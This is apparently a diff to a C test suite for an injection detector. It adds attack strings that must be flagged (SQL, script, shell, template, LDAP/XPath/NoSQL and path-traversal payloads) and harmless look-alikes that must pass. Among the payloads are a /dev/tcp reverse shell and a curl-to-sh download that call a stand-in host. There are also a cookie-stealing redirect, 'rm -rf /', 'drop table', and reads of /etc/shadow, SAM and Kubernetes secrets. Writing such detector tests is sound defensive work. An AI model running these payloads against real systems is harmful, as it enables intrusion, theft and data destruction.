@@ -77,7 +77,10 @@ TEST("conditions, queries and statements behind the end of a value are SQL injec
         "select login, pin from staff where id = 4", "(select 1 from dual) --", "select @@version", "declare @k varchar(9) set @k = 0x31 exec(@k)",
         "x' is not null or 'p'='q", "x' like '%", "1 rlike (select 1)", "case'||version()||'", "x'+char(65)+char(66)+'",
         "id=4%20or%203%3D3", "x%2527%20or%25201=1--", "x&#39; or &#39;1&#39;=&#39;1", "1\xc2\xa0or\xc2\xa0" "1=1", "x\\u0027 or 2=2", "1+or+7=7",
-        "{\"name\": \"x' or 'q'='q\"}", "/items?id=7 and 1=1", "x' or ('w' = 'w", "1 or 'a' = N'a", "1 or 0x41=0x41", "@k union select 1", NULL
+        "{\"name\": \"x' or 'q'='q\"}", "/items?id=7 and 1=1", "x' or ('w' = 'w", "1 or 'a' = N'a", "1 or 0x41=0x41", "@k union select 1",
+        "kim' or kind(pin) or '", "kim' or staff_of (pin)--", "6 or true", "6 or k=k", "7 || pin is not null", "' or '", "'+'", "\" or 7 or \"",
+        "'; desc staff; --", "''; drop table staff --", "copy staff from program 'id'", "1; exec sp_who", "execute immediate 'k'", "k' into @k,@l",
+        "9-if(4=4,1,0)", "kim' oorr 4=4--", "kim' ununionion selselectect 1,2", "5 un/**/ion sel/**/ect 1,2", "5\xa0union\xa0select\xa0""7", "5 or 1.e(2)=2#", NULL
     };
     attacks(ATTACK_SQL, texts);
 }
@@ -92,7 +95,9 @@ TEST("sentences, names, sizes and searches with words of SQL are none")
         "-- a dash before a name", "the 1990's -- what a time", "can't, won't and shouldn't", "is 3 greater than 2 or not?", "where is the station",
         "having fun and being 5 years old", "exec summary", "the select committee on the union", "like father, like son", "'quoted' or \"quoted\"",
         "if (x == 'a' || y == 'b') return", "a = b and c = d", "null and void", "true or false", "sleep(8) hours", "http://shop.example/?q=a+or+b",
-        "version 2 or version 3", "we shall not -- ever -- agree", "a/b/c*d", "E. coli and S. aureus", "5' x 7' or 8'", NULL
+        "version 2 or version 3", "we shall not -- ever -- agree", "a/b/c*d", "E. coli and S. aureus", "5' x 7' or 8'",
+        "the union select committee met at noon", "is 2=2 or not?", "create table bookings", "9 and 9 is 18", "\"and\"", "\"-\"", "int/*k*/value",
+        "either 6 or true north", "a/*b*/c", "select or union; either will do", NULL
     };
     passes(texts);
 }
@@ -109,7 +114,8 @@ TEST("tags, handlers and addresses that run something are script injection")
         "k onclick=go()", "\"><svg onload=go()>", "';alert(1)//", "\"-confirm(2)-\"", "javascript:alert(document.domain)", "</script><script>go()",
         "</title><img src=k>", "%3Cscript%3Ego()%3C/script%3E", "&lt;script&gt;go()&lt;/script&gt;", "\\u003cscript\\u003e", "\\x3cimg src=k onerror=go()\\x3e",
         "\xef\xbc\x9cscript\xef\xbc\x9e", "data:text/html,<b>", "<a href=\"data:text/html;base64,AAAA\">", "[k](javascript:alert(1))", "<!--[if IE]><script>",
-        "eval(atob('a2s='))", "<link rel=import href=k>", "<template><script>k", "<img src=`k` onerror=go()>", "<image src onerror=go()>", NULL
+        "eval(atob('a2s='))", "<link rel=import href=k>", "<template><script>k", "<img src=`k` onerror=go()>", "<image src onerror=go()>",
+        "eval('go'+'(1)')", "top.location='//k.example/?'+document.cookie", "import('data:text/javascript,go()')", NULL
     };
     attacks(ATTACK_XSS, texts);
 }
@@ -133,7 +139,11 @@ TEST("commands behind separators and in substitutions are shell injection")
         "k; /?\?\?/c?t /etc/hosts", "k > /etc/cron.d/x", "k; bash -i >& /dev/tcp/k.example/9 0>&1", "() { :;}; k", "k; rm -rf /", "curl k.example/x | sh",
         "k & dir c:\\", "k | type c:\\k.txt", "cmd /c dir", "powershell -enc AAAA", "certutil -urlcache -f k", "nc -e /bin/sh k.example 9",
         "%0acat%20/etc/hosts", "k%3Bid", "k&#59;id", "k;wh$@oami", "for /f %i in ('dir') do echo %i", "cat /etc/shadow", "/bin/ls -la", "; sleep 9",
-        "<(sort k)", "$(tee k)", "\\nid;", "k%0Did", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'", NULL
+        "<(sort k)", "$(tee k)", "\\nid;", "k%0Did", "k|+dir+c:\\", "nohup ifconfig", "echo %PATH%", "k /etc/[s]hadow", "if 3 geq 2 echo k", "${SHELL} -c 'k'",
+        "k;u$()name", "k;un<()ame -a", "k;w${k}hoami", "k;id$!;", "k;$0<<<ls", "k=l;m=s;$k$m /etc", "k=nc && $k -l", "k;eval \"ls\"", "`sleep 7`", "$(sleep 7)",
+        "; ps aux", "10.0.0.9; mv k l", "\" & id & \"", "k; /bin/ca? /etc/hosts", "/usr/bin/[u]name -a", "/etc/[!k]osts", "python3.9 /tmp/k.py", "time wget k.example",
+        "find / -name k -exec rm {}", "--checkpoint-action=exec=k", "-oProxyCommand=k", "wmic process call create k", "IEX (iwr k)", "schtasks /create /tn k /tr l",
+        "rundll32 javascript:k", "reg add HKLM\\k", "New-Object Net.WebClient", NULL
     };
     attacks(ATTACK_SHELL, texts);
 }
@@ -145,7 +155,9 @@ TEST("lists, tables, entities and Markdown are none")
         "| id | name | date |", "&copy; 2024 & &amp;", "Use `ls -la` to list files, then `cat` them.", "the `id` column", "$(document).ready", "a=1&id=5&sort=2",
         "more; less; head; tail", "time; date; place", "make it last; kill time", "wait; who is that", "touch; dig; split", "rm is a command of Unix",
         "5 > 3; 2 < 4", "go to bed & sleep well", "price: $(5)", "one\ntwo\nthree", "one\r\nfind\r\nthree",
-        "bash python perl", "see (cat) and dog", "5% off and 10% more", "echo of $5", "if it is equal, say so", "the /etc/ folder", "exec (see below)", "find\nsort\nhead of the table", "date & time", "win; lose; draw", NULL
+        "bash python perl", "see (cat) and dog", "5% off and 10% more", "echo of $5", "if it is equal, say so", "the /etc/ folder", "exec (see below)", "find\nsort\nhead of the table", "date & time", "win; lose; draw",
+        "7 High St; Apt 9", "perl; ruby; go", "see (`pip install k`), then go on", "<<<<<<< HEAD\nk\n=======", "$k = 1; $l = 2;", "cost=5; $9 off", "one\nhead: two.",
+        "tea & view", "k.example/?a=b;c=d", NULL
     };
     passes(texts);
 }
@@ -156,23 +168,31 @@ TEST("expressions that a template engine would run")
         "{{6*9}}", "${6*9}", "#{6*9}", "<%= 6*9 %>", "{{''.__class__.__mro__}}", "{{config.items()}}", "{{config}}", "{{self.__init__.__globals__}}",
         "{{request|attr('application')}}", "${jndi:ldap://k.example/a}", "${${lower:j}ndi:ldap://k}", "${T(java.lang.Runtime).getRuntime()}",
         "<#assign k=\"freemarker.template.utility.Execute\"?new()>", "#set($k=7)$k", "<%= system('id') %>", "{php}go();{/php}",
-        "{{constructor.constructor('go()')()}}", "%{(#k='v')}", "{{['id']|filter('system')}}", "*{T(java.lang.Runtime)}", "%24%7B6*9%7D", NULL
+        "{{constructor.constructor('go()')()}}", "%{(#k='v')}", "{{['id']|filter('system')}}", "*{T(java.lang.Runtime)}", "%24%7B6*9%7D",
+        "{6*9}", "$[6*9]", "%{6*9}", "{{['id',0]|sort('system')}}", "{{ include('k.php') }}", "{{.}}", "{{printf \"%s\" .}}", "{{ 'k'.getClass() }}", "{{'k'.go()}}",
+        "<%import os%>", "@{ System.IO.File.Delete(k) }", "@System.Diagnostics.Process.Start(k)", "${pageContext}", "<#list .data_model?keys as k>",
+        "__${6*9}__::.k", "<%- include('/etc/hosts') %>", "${open('/etc/hosts')}", "{{process.env}}", NULL
     };
     attacks(ATTACK_TEMPLATE, texts);
     static const char *const near[] = { "Dear {{name}},", "{{ user.first_name }}", "${HOME} and ${name}", "#{title}", "\\frac{1}{2}", "{7}", "{{#if k}}yes{{/if}}",
-                                        "def __init__(self):", "100% {sure}", "{% if user %}hi{% endif %}", "$5 * {2}", "f(${x})", NULL };
+                                        "def __init__(self):", "100% {sure}", "{% if user %}hi{% endif %}", "$5 * {2}", "f(${x})",
+                                        "{6+9}", "self.__class__.__name__", "{{ 'k'|upper }}", "{{ 'KEY' | translate }}", "{% include 'head.html' %}", "${'k'.repeat(9)}",
+                                        "{% from 'k' import l %}", "using System.IO;", NULL };
     passes(near);
 }
 
 TEST("filters of directories and documents, operators of databases")
 {
-    static const char *const ldap[] = { "*)(uid=*))(|(uid=*", "kim)(|(password=*))", "*)(objectClass=*)", "kim)(cn=*", "*))%00", "x)(&)(mail=k", "k)|(uid=*", "x)!(sn=k", NULL };
+    static const char *const ldap[] = { "*)(uid=*))(|(uid=*", "kim)(|(password=*))", "*)(objectClass=*)", "kim)(cn=*", "*))%00", "x)(&)(mail=k", "k)|(uid=*", "x)!(sn=k", "*()|k", "(&(kind=a)(l=*))",
+                                        "*)(userAccountControl:1.2.840.113556.1.4.803:=2)", NULL };
     static const char *const xpath[] = { "count(//user)", "' or count(parent::*)=1 or '", "x']|//password", "' and string-length(//user[1]/pin)=4 and '",
-                                         "ancestor::node()", "'] | //*[1] | ['", NULL };
+                                         "ancestor::node()", "'] | //*[1] | ['", "//@*", "doc(concat('k',/l))",
+                                         "system-property('xsl:vendor')", "normalize-space(//k)", "child::user/pin", NULL };
     static const char *const nosql[] = { "{\"$gt\": \"\"}", "{\"pin\": {\"$ne\": null}}", "pin[$ne]=1", "$where", "'; return true; var k='", "this.pin == '1' || this.k",
                                          "{$where: 'sleep(9)'}", NULL };
     static const char *const near[] = { "f(x)(y)", "(a) (b)", "sum (all) of it", "count (them)", "a: b", "$5 for two", "costs $in or $out", "the parent: me",
-                                        "std::vector", "(see above) (or below)", "5 * (3 + 4)", "name (uid)", "(a)&(b==c)", "(x) | (y)", "(this)|(that = those)", NULL };
+                                        "std::vector", "(see above) (or below)", "5 * (3 + 4)", "name (uid)", "(a)&(b==c)", "(x) | (y)", "(this)|(that = those)", "child::care", "//comment",
+                                        "doc (draft)", NULL };
     attacks(ATTACK_LDAP, ldap);
     attacks(ATTACK_XPATH, xpath);
     attacks(ATTACK_NOSQL, nosql);
@@ -185,11 +205,15 @@ TEST("ways out of a folder, and files that nobody is to read")
         "../../etc/passwd", "../../../../k", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fk", "..%2f..%2f..%2f..%2fk", "..%252f..%252fk", "..%c0%af..%c0%afk", "....//....//k",
         "..;/manager", "/etc/passwd", "/proc/self/environ", "C:\\..\\..\\boot.ini", "file:///etc/hosts", "php://filter/convert.base64-encode/resource=k",
         "/WEB-INF/web.xml", ".git/config", "expect://id", "k=../../../../etc/hosts%00.png",
-        "k/.kube/config", "../.netrc", "/k/.docker/config.json", "/proc/modules", NULL
+        "k/.kube/config", "../.netrc", "/k/.docker/config.json", "/proc/modules",
+        "/etc/kubernetes/k.conf", "/run/secrets/k", "/var/run/secrets/kubernetes.io/k", "/opt/k/conf/tomcat-users.xml", "/k/../../../l", "..%00/k", "..././..././k",
+        "\\\\10.0.0.9\\k\\l", "\\\\k.example\\c$\\l", "\\\\?\\C:\\k", "http://169.254.169.254/latest", "file:/etc/hosts", "%WINDIR%\\win.ini", "0x2e0x2e0x2fk",
+        "data://text/plain,k", "c:\\windows\\system32\\config\\sam", NULL
     };
     attacks(ATTACK_TRAVERSAL, texts);
     static const char *const near[] = { "../images/k.png", "wait... what", "and so on...", "./run", "https://k.example/a/b", "import x from '../../lib'", "3/4 of it",
-                                        "the file is in the folder", "a.b.c", "etc. and so on", "a history of art", "k.azure.example", "docker/config", NULL };
+                                        "the file is in the folder", "a.b.c", "etc. and so on", "a history of art", "k.azure.example", "docker/config", "\\\\server\\share",
+                                        "/opt/k/bin", "/dev/sdb1", "require('../../../k')", "http://k.example/latest", NULL };
     passes(near);
 }
 
